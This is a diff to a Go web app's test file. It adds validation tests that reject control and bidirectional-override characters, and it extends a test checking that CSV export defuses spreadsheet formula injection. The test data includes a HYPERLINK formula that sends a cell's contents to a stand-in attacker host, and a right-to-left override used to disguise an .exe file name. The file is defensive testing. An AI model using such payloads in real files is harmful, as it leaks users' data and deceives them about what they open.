@@ -345,6 +345,52 @@ func TestEditConflict(t *testing.T) {
 	}
 }
 
+// TestItemValidation: titles and texts that would hide or reorder what
+// the pages show are refused with a precise message and the input kept,
+// on create and on edit; ordinary text in any script is accepted.
+func TestItemValidation(t *testing.T) {
+	t.Parallel()
+	srv := newServer(t, newEnv(t), app.Config{})
+	alice := user(t, srv, "alice")
+	id := alice.createItem("Plan", "text")
+	edit := "/items/" + id + "/edit"
+	for _, tc := range []struct {
+		name, title, body string
+		want              string // "" for accepted
+	}{
+		{"ordinary", "Weekly plan", "line one\r\nline two\ttabbed", ""},
+		{"right to left with marks", "\u05ea\u05db\u05e0\u05d9\u05ea \u200f(2)", "\u0645\u0631\u062d\u0628\u0627 \u061c", ""},
+		{"emoji and joiners", "Trip \U0001F469\u200D\U0001F4BB", "", ""},
+		{"blank", "   ", "", "Enter a title."},
+		{"zero-width only", "\u200b\u2060\u200b", "", "Enter a title."},
+		{"right-to-left override", "Invoice \u202egnp.exe", "", "U+202E"},
+		{"isolate", "a\u2067b", "", "U+2067"},
+		{"newline in title", "one\ntwo", "", "U+000A"},
+		{"tab in title", "one\ttwo", "", "U+0009"},
+		{"NUL in text", "Plan", "a\x00b", "U+0000"},
+		{"escape in text", "Plan", "\x1b[31mred", "U+001B"},
+		{"C1 control in text", "Plan", "a\u0085b", "U+0085"},
+		{"DEL in text", "Plan", "a\x7fb", "U+007F"},
+	} {
+		for _, form := range []struct{ page, action string }{{"/items/new", "/items"}, {edit, edit}} {
+			v := url.Values{"title": {tc.title}, "body": {tc.body}}
+			if form.page == edit {
+				v.Set("version", alice.version(edit))
+			}
+			r := alice.submit(form.page, form.action, v)
+			if tc.want == "" {
+				if r.status != http.StatusSeeOther {
+					t.Errorf("%s, POST %s: status %d, want 303:\n%s", tc.name, form.action, r.status, r.body)
+				}
+				continue
+			}
+			if r.status != http.StatusUnprocessableEntity || !strings.Contains(html.UnescapeString(r.body), tc.want) {
+				t.Errorf("%s, POST %s: status %d, want 422 naming %s:\n%s", tc.name, form.action, r.status, tc.want, r.body)
+			}
+		}
+	}
+}
+
 // TestItemFlow walks create, limits, delete confirmation, visibility and
 // sharing through the pages.
 func TestItemFlow(t *testing.T) {
@@ -547,7 +593,7 @@ func TestExport_CSVFormulas(t *testing.T) {
 	t.Parallel()
 	srv := newServer(t, newEnv(t), app.Config{})
 	alice := user(t, srv, "alice")
-	cells := map[string]string{ // title → the CSV cell it becomes
+	cells := map[string]string{ // text → the CSV cell it becomes
 		`=HYPERLINK("https://evil.example/?"&C2)`: `'=HYPERLINK("https://evil.example/?"&C2)`,
 		"+1":       "'+1",
 		"-2":       "'-2",
@@ -559,9 +605,17 @@ func TestExport_CSVFormulas(t *testing.T) {
 		"=":        "'=",
 		"é=accent": "é=accent",
 		"\tTAB":    "'\tTAB",
+		"\rCR":     "'\rCR",
 	}
-	for title := range cells {
-		alice.createItem(title, title)
+	// Each text is the item's title too, where a title may hold it: a tab or
+	// a line break can only lead the text.
+	const bodyOnly = "Text only"
+	for text := range cells {
+		title := text
+		if strings.ContainsAny(text, "\t\r\n") {
+			title = bodyOnly
+		}
+		alice.createItem(title, text)
 	}
 	r := alice.submit("/export", "/export", url.Values{"format": {"csv"}})
 	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
@@ -570,14 +624,14 @@ func TestExport_CSVFormulas(t *testing.T) {
 	}
 	got := map[string]bool{}
 	for _, row := range rows[1:] {
-		got[row[1]] = true
-		if row[1] != row[2] {
+		got[row[2]] = true
+		if row[1] != bodyOnly && row[1] != row[2] {
 			t.Errorf("CSV row %q: title and text cells differ", row)
 		}
 	}
-	for title, cell := range cells {
+	for text, cell := range cells {
 		if !got[cell] {
-			t.Errorf("CSV export has no cell %q for the title %q", cell, title)
+			t.Errorf("CSV export has no cell %q for the text %q", cell, text)
 		}
 	}
 	var items []struct{ Title, Body string }
@@ -586,7 +640,7 @@ func TestExport_CSVFormulas(t *testing.T) {
 		t.Fatalf("JSON export does not parse: %v", err)
 	}
 	for _, it := range items {
-		if _, ok := cells[it.Title]; !ok || it.Body != it.Title {
+		if _, ok := cells[it.Body]; !ok || (it.Title != it.Body && it.Title != bodyOnly) {
 			t.Errorf("JSON export item %q / %q: want the exact text", it.Title, it.Body)
 		}
 	}
